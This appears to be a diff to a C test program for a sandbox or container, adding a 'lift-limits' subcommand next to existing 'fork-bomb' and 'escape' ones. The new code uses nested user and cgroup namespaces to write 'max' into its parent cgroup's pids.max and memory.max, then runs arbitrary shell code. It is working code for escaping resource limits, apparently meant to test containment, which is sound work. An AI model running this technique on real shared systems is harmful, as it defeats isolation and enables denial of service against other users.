@@ -11,6 +11,7 @@
 #include <net/if.h>
 #include <netinet/ip_icmp.h>
 #include <poll.h>
+#include <sched.h>
 #include <signal.h>
 #include <spawn.h>
 #include <stdbool.h>
@@ -20,6 +21,7 @@
 #include <string.h>
 #include <sys/ioctl.h>
 #include <sys/mman.h>
+#include <sys/mount.h>
 #include <sys/resource.h>
 #include <sys/signalfd.h>
 #include <sys/socket.h>
@@ -97,6 +99,43 @@ static int fork_bomb(char *argument)
 	fflush(stdout);
 	for (;;)
 		(void)fork();
+	return 1;
+}
+
+// Writes a text to a file in a directory. Says how that went, if it is told so.
+static bool write_to(const char *directory, const char *file, const char *text, bool says)
+{
+	char path[256];
+
+	snprintf(path, sizeof(path), "%s/%s", directory, file);
+	int fd = open(path, O_WRONLY);
+	bool done = fd != -1 && write(fd, text, strlen(text)) != -1;
+	if (says)
+		printf("%s: %s\n", file, done ? "lifted" : strerror(errno));
+	close(fd);
+	return done;
+}
+
+// Lifts the limits of its own cgroup, then runs shell code. A cgroup namespace's root is guarded against processes whose
+// namespace it is. So this makes a second namespace, in a cgroup below, and writes to the files of the first one's root.
+static int lift_limits(char *code)
+{
+	static const char place[] = "/tmp/cgroup";
+
+	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) == -1 ||
+		!write_to("/proc/self", "uid_map", "0 0 1", false) || mkdir(place, 0700) == -1 ||
+		mount("none", place, "cgroup2", 0, NULL) == -1 ||
+		mkdir("/tmp/cgroup/below", 0700) == -1 ||
+		mkdir("/tmp/cgroup/below/x", 0700) == -1 ||
+		!write_to(place, "below/cgroup.procs", "0", false) ||
+		unshare(CLONE_NEWCGROUP) == -1) {
+		perror("cgroup");
+		return 1;
+	}
+	write_to(place, "pids.max", "max", true);
+	write_to(place, "memory.max", "max", true);
+	fflush(stdout);
+	execl("/bin/sh", "sh", "-c", code, NULL);
 	return 1;
 }
 
@@ -422,6 +461,7 @@ static const struct {
 	{ "as-user", as_user },
 	{ "euid", euid },
 	{ "outlive", outlive },
+	{ "lift-limits", lift_limits },
 	{ "escape", escape },
 	{ "fork-bomb", fork_bomb },
 	{ "ping", ping },
